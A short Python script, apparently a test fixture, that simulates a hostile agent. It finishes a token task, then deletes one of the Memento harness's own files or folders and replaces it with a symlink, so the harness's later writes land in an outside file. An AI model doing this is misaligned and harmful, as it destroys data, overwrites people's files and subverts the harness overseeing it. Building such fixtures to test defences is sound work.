#!/usr/bin/env python3
"""Hostile agent: does its task, then replaces one of Memento's own files by a symbolic link.

usage: links_own_file.py REL TARGET   (REL e.g. docs/TICK_STATUS.md, .memento/state.json,
logs/cron.log or a folder such as logs; TARGET a person's file or folder outside the project)
Whatever Memento would write next to REL would land in TARGET.
"""

import os
import shutil
import sys
from pathlib import Path

rel, target = Path(sys.argv[1]), sys.argv[2]
Path("hello.txt").write_text("done\n", encoding="utf-8")
if rel.is_dir() and not rel.is_symlink():
    shutil.rmtree(rel)
elif rel.exists() or rel.is_symlink():
    rel.unlink()
rel.parent.mkdir(parents=True, exist_ok=True)
os.symlink(target, rel)
print(f"{rel} -> {target}")
